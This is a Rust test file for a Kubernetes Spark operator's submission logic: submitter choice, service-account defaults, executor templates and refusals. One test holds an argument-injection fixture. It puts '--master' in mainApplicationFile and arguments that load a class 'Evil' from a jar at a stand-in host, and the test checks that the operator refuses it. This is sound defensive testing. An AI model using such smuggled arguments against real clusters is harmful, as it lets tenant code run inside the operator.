//! Tests which submitter is chosen for an application, and what the operator then creates or refuses.

use crate::{native::program, prelude::*, submission::application};
use plan::{
    By, executor_trial,
    submission_plan::{Chosen, Submitter, choose},
};
use spark_client::Reason;
use submission::executor_template::ExecutorTemplate;

#[test]
fn the_operator_submits_what_it_can_and_leaves_the_rest_to_spark_submit() {
    let easy = program(json!({}));
    assert!(matches!(chosen(&easy, &policy()).request.by, By::Native(_)));
    let odd = program(json!({"sparkConf": {"spark.kubernetes.driver.pod.featureSteps": "1"}}));
    let Chosen { request, events } = chosen(&odd, &policy());
    let By::Pod { fallback: Some(Reason::FeatureSteps), .. } = request.by else { panic!("{request:?}") };
    assert_eq!(
        events.iter().map(|event| &*event.note).collect::<Vec<_>>(),
        ["submitted by spark-submit in a pod, since only that can do this: \
             spec.sparkConf[spark.kubernetes.driver.pod.featureSteps]: `1` is code that is to change the driver's pod"]
    );
}

#[test]
fn an_application_narrows_what_the_admin_allows_and_never_widens_it() {
    let cases: Vec<(String, Option<String>, String)> = yaml(&data("choice/submitters.yaml"));
    for (flag, asked, expected) in cases {
        let application = asking(program(json!({})), asked.as_deref());
        let policy = Policy { submitter: flag.parse().unwrap(), ..policy() };
        let found = match tried(&application, &policy) {
            Ok(chosen) if matches!(chosen.request.by, By::Native(_)) => "native".to_owned(),
            Ok(_) => "spark-submit".to_owned(),
            Err(why) => why,
        };
        assert!(found.starts_with(&expected), "{flag} {asked:?}: {found}");
    }
}

/// Applications of Kubeflow's SDK name no service account, and rely on a default of the operator.
#[test]
fn pods_of_an_application_without_an_account_have_the_admins_default() {
    for submitter in [Submitter::Native, Submitter::SparkSubmit] {
        let policy = Policy { default_service_account: Some("spark".to_owned()), submitter, ..policy() };
        let account = |driver: Value| {
            let mut application = program(json!({"driver": driver}));
            let Chosen { request, events } = chosen(&application, &policy);
            assert_eq!((request.run.clone(), events), (Run::next(&application), Vec::new()));
            let (By::Native(objects) | By::Pod { objects, .. }) = request.by;
            application.status =
                Some(serde_json::from_value(json!({"submissionID": request.run.id})).unwrap());
            let driver = serde_json::from_value(json!({"name": "pi-driver", "uid": "d1"})).unwrap();
            let executor = executor_trial::executor(&application, &driver, "", &policy).unwrap();
            [objects.pod, executor].map(|pod| pod["spec"]["serviceAccountName"].clone())
        };
        assert_eq!(account(json!({})), ["spark", "spark"]);
        assert_eq!(account(json!({"serviceAccount": "own"})), ["own", "own"]);
        let container = json!({"name": "spark-kubernetes-driver"});
        let template = json!({"spec": {"serviceAccountName": "own", "containers": [container]}});
        assert_eq!(account(json!({"template": template})), [json!("own"), Value::Null]);
    }
}

/// Four ways by which, in an earlier version, a tenant's code ran in the operator or a tenant read the operator's
/// files. The operator no longer contains anything that runs such code or reads such files: it refuses the application,
/// or plans a submission pod in the tenant's namespace.
#[test]
fn the_operator_runs_no_code_and_reads_no_files_of_tenants() {
    let injected = json!({
        "mainApplicationFile": "--master",
        "arguments": ["local[1]", "--deploy-mode", "client", "--class", "Evil", "http://evil.team-a.svc/x.jar"],
    });
    for submitter in [None, Some("native"), Some("spark-submit")] {
        let injected = asking(program(injected.clone()), submitter);
        let why = tried(&injected, &policy()).unwrap_err();
        assert!(why.starts_with("spec.mainApplicationFile: `--master` begins with `-`"), "{why}");
    }
    for (changes, reason) in yaml::<Vec<(Value, String)>>(&data("choice/tenants-code.yaml")) {
        let application = program(changes);
        let Chosen { request, .. } = chosen(&application, &policy());
        let By::Pod { objects, fallback } = request.by else { panic!("{application:?}") };
        assert_eq!(fallback.map(|reason| reason.to_string()), Some(reason));
        assert_eq!(objects.pod["metadata"]["labels"]["spark-role"], "submission");
        // With `--submitter=native`, the application is refused.
        let native = Policy { submitter: Submitter::Native, ..policy() };
        tried(&application, &native).unwrap_err();
    }
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
struct Refused {
    spec: Value,
    asks: Option<String>,
    #[serde(default)]
    is_native: bool,
    begins: String,
    ends: String,
}

#[test]
fn an_application_that_cannot_be_submitted_is_refused_with_field_and_advice() {
    for Refused { spec, asks, is_native, begins, ends } in yaml::<Vec<Refused>>(&data("choice/refused.yaml"))
    {
        let application = asking(program(spec), asks.as_deref());
        let submitter = if is_native { Submitter::Native } else { policy().submitter };
        let policy = Policy { submitter, ..policy() };
        let why = tried(&application, &policy).unwrap_err();
        assert!(why.starts_with(&begins) && why.ends_with(&ends), "{why}");
    }
}

#[test]
fn an_unknown_spark_version_is_submitted_as_the_nearest_with_an_event() {
    let application = program(json!({"sparkVersion": "5.1.0"}));
    let notes = chosen(&application, &policy()).events;
    assert_eq!(notes[0].note, "Spark 5.1.0 is not known here: submitted as Spark 4.3, the nearest line");
    assert!(chosen(&program(json!({"sparkVersion": "4.1.0"})), &policy()).events.is_empty());
}

/// Without the webhook, the executors' template contains the changes that the webhook would make to executor pods.
#[test]
fn without_the_webhook_drivers_are_the_same_and_executors_have_a_template() {
    let mut without = policy();
    without.submission.has_webhook = false;
    let mut templates = 0;
    let everything: SparkApplication = yaml(&data("api/sparkapplication.yaml"));
    for mut application in cases("submission").iter().map(|case| application(case)).chain([everything]) {
        let name = application.metadata.name.clone().unwrap_or_default();
        application.spec.image =
            application.spec.image.filter(|image| !image.is_empty()).or(Some("spark".to_owned()));
        application.spec.main_class.get_or_insert_with(|| "Main".to_owned());
        let made = |policy| match tried(&application, policy).ok()?.request.by {
            By::Native(objects) => Some(objects),
            By::Pod { .. } => None,
        };
        let (Some(with), Some(without)) = (made(&policy()), made(&without)) else { continue };
        assert_eq!(with.pod, without.pod, "{name}");
        let template = |objects: &Objects| -> Option<Value> {
            let text =
                objects.children.iter().find_map(|child| child["data"]["podspec-configmap-key"].as_str())?;
            Some(serde_json::from_str(text).unwrap())
        };
        if let (Some(with), Some(without)) = (template(&with), template(&without)) {
            let contract = |template: &Value| {
                template["metadata"]["annotations"]["sparkoperator.k8s.io/contract"].clone()
            };
            assert!(contract(&without).is_null(), "{name}");
            templates += usize::from(!contract(&with).is_null());
        }
    }
    assert!(templates > 1, "{templates} templates differ");
}

#[test]
fn fields_of_executors_that_spark_overwrites_are_reported() {
    let application = program(json!({
        "sparkConf": {"spark.decommission.enabled": "true"},
        "executor": {
            "ports": [{"name": "metrics", "containerPort": 8090, "protocol": "TCP"}], "memoryLimit": "4g",
            "env": [{"name": "SPARK_USER", "value": "someone"}],
            "tolerations": [{"key": "spot", "operator": "Exists"}],
            "lifecycle": {"preStop": {"exec": {"command": ["sleep", "1"]}}},
        },
    }));
    let mut without = policy();
    without.submission.has_webhook = false;
    let Chosen { request, events } = chosen(&application, &without);
    assert_eq!(
        events[0].note,
        "without the webhook executors are made from a pod template alone, in which Spark overwrites \
         spec.executor.ports, spec.executor.memoryLimit, spec.executor.lifecycle, spec.executor.env (SPARK_…)"
    );
    let By::Native(objects) = request.by else { panic!("{request:?}") };
    let text = objects.children.iter().find_map(|child| child["data"]["podspec-configmap-key"].as_str());
    let template: Value = serde_json::from_str(text.unwrap()).unwrap();
    assert_eq!(template["spec"]["tolerations"], json!([{"key": "spot", "operator": "Exists"}]));
    assert_eq!(template["spec"]["containers"][0]["name"], "spark-kubernetes-executor");
}

#[test]
fn the_executors_template_is_mutable_if_partial_restart_is_enabled() {
    let cases: Vec<(bool, Option<String>, Value, bool)> = yaml(&data("choice/renewable.yaml"));
    for (gate, annotation, differs, is_renewable) in cases {
        let policy = Policy { partial_restart: gate, ..policy() };
        let mut application = json!(program(json!({"executor": {"nodeSelector": {"pool": "old"}}})));
        application["metadata"]["annotations"] =
            annotation.as_ref().map_or(Value::Null, |is| json!({"sparkoperator.k8s.io/partial-restart": is}));
        json_patch::merge(&mut application, &differs);
        let application: SparkApplication = serde_json::from_value(application).unwrap();
        let Chosen { request, .. } = chosen(&application, &policy);
        let By::Native(objects) = request.by else { panic!("{request:?}") };
        let mut children = objects.children.iter();
        let config_map = children.find(|child| child["data"]["podspec-configmap-key"].is_string()).unwrap();
        let mark = &objects.pod["metadata"]["annotations"]["sparkoperator.k8s.io/template"];
        let case = format!("{gate} {annotation:?} {differs}");
        assert_eq!(config_map["immutable"], if is_renewable { Value::Null } else { json!(true) }, "{case}");

        let template = |application: &SparkApplication| {
            let application = &validate(application).unwrap();
            ExecutorTemplate::of(application, &request.run, &policy.submission).unwrap()
        };
        let present = template(&application);
        assert_eq!(config_map["metadata"]["name"], present.config_map, "{case}");
        assert_eq!(config_map["data"], present.patch()["data"], "{case}");
        assert_eq!(mark, &if is_renewable { json!(present.fingerprint()) } else { Value::Null }, "{case}");
        let mut edited = application.clone();
        edited.spec.executor.pod.node_selector = [("pool".to_owned(), "new".to_owned())].into();
        assert_ne!(template(&edited).fingerprint(), present.fingerprint(), "{case}");
    }
}

pub(crate) fn chosen(application: &SparkApplication, policy: &Policy) -> Chosen {
    tried(application, policy).unwrap()
}

fn tried(application: &SparkApplication, policy: &Policy) -> Result<Chosen, String> {
    let (run, environment) = (Run::next(application), SubmissionEnvironment::default());
    choose(application, &run, &environment, policy, Timestamp::UNIX_EPOCH)
}

pub(crate) fn policy() -> Policy {
    Policy::new("k8s://https://10.0.0.1:443")
}

/// Returns the application with this value of the annotation that chooses a submitter.
pub(crate) fn asking(mut application: SparkApplication, submitter: Option<&str>) -> SparkApplication {
    application.metadata.annotations = submitter
        .map(|submitter| [("sparkoperator.k8s.io/submitter".to_owned(), submitter.to_owned())].into());
    application
}
